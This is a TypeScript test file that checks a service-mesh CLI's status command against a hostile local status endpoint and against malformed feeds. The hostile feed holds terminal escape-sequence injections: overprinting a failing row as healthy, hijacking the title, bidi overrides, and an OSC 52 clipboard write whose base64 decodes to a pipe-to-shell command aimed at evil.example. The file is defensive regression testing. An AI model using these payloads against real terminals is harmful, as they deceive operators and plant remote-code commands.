import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.ts";

/**
 * Found by review (dash-inject): `meshward status` printed the fields of a remote /status.json
 * as they came, so a status endpoint the operator queries could write terminal control
 * sequences: overprint its own failing row with "healthy" (CSI 2K, CR), set the terminal's
 * title, or replace the clipboard (OSC 52). The endpoint here is a hostile node:http server on
 * 127.0.0.1; the CLI runs as its own process, as an operator runs it.
 */
const ESC = "\u001b";
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`;
const OVERPRINT = `${ESC}[2K\r${ESC}[32msidecar ... healthy${ESC}[0m`;
const FEED = {
  component: `sidecar${ESC}]0;owned-title${ESC}\\`,
  name: `shop/orders${OSC52}\u202edeliah\u2066`,
  identities: [{ spiffeId: `spiffe://td/ns/shop/orders\u009b31m`, serial: "01", notAfter: new Date(Date.now() + 86_400_000).toISOString(), kind: "workload" }],
  rotations: [{ time: new Date().toISOString(), kind: `svid\u0085`, result: `ok\u007f` }],
  health: { ok: false, checks: { [`identity\n`]: { ok: false, detail: `renewal failing${OVERPRINT}\u2028` } } },
};

let server: Server;
let url: string;

beforeAll(async () => {
  server = createServer((_req, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify(FEED));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
});

describe("meshward status against a hostile status endpoint", () => {
  it("prints no control character the feed sent: each is shown as a visible escape", async () => {
    const result = await runCli(["status", "--status-url", url], { env: { MESHWARD_STATUS_TOKEN: "" } });
    // The row is unhealthy, and the exit code says so.
    expect(result.code, result.stderr).toBe(1);
    // Only the table's own line ends: no ESC, CSI (U+009B), BEL, CR, NEL, DEL, U+2028, bidi control or other control character.
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect(result.stdout.split("\n")).toHaveLength(3); // header, one row, the final newline
    expect(result.stdout).toContain("shop/orders\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202edeliah\\u2066");
    expect(result.stdout).toContain("sidecar\\x1b]0;owned-title\\x1b\\");
    expect(result.stdout).toContain("identity\\n: renewal failing\\x1b[2K\\r\\x1b[32msidecar ... healthy\\x1b[0m\\u2028");
    expect(result.stdout).toContain("spiffe://td/ns/shop/orders\\x9b31m");
    expect(result.stdout).toContain("svid\\x85 ok\\x7f");
  }, 30_000);

  it("--json keeps the values as they came, every control character JSON-escaped (DEL, C1 and U+2028 too)", async () => {
    const result = await runCli(["status", "--status-url", url, "--json"], { env: { MESHWARD_STATUS_TOKEN: "" } });
    expect(result.code, result.stderr).toBe(1);
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect(result.stdout).toContain("spiffe://td/ns/shop/orders\\u009b31m");
    expect(result.stdout).toContain("\\u202edeliah\\u2066");
    const [row] = JSON.parse(result.stdout) as { name: string; identity: string }[];
    expect(row?.name).toBe(FEED.name);
    expect(row?.identity).toBe(FEED.identities[0]?.spiffeId);
    expect((row as unknown as { health: string }).health).toBe(`identity\n: ${FEED.health.checks["identity\n"]?.detail}`);
  }, 30_000);
});

// Review today4 (side note): an endpoint that answers /status.json with JSON of another shape (`{}`,
// another server's API) made `meshward status` exit with a TypeError and a stack trace.
describe("meshward status against a /status.json that is not a meshward feed", () => {
  let other: Server;
  let otherUrl: string;
  // One per --status-url, in order (the CLI asks them one after another; each URL's /status.json is the same path).
  const bodies = ["{}", "[1,2]", '{"component":"x","name":"y","identities":[],"rotations":[],"health":{"ok":true}}', "null"];
  let served = 0;
  beforeAll(async () => {
    other = createServer((_req, res) => {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(bodies[served++ % bodies.length]);
    });
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise((resolve) => other?.close(resolve));
  });

  it("reports each as an unhealthy row saying what is missing: exit 1, no stack trace", async () => {
    const result = await runCli(["status", ...bodies.flatMap((_, i) => ["--status-url", `${otherUrl}/${i}`])], { env: { MESHWARD_STATUS_TOKEN: "" } });
    expect(result.code, result.stderr).toBe(1);
    expect(result.stderr).not.toMatch(/TypeError|\n\s+at /);
    expect(result.stdout.match(/not a meshward status feed/g)).toHaveLength(4);
    expect(result.stdout).toContain("no component or name");
    expect(result.stdout).toContain("not a JSON object");
    expect(result.stdout).toContain("no health");
  }, 30_000);
});
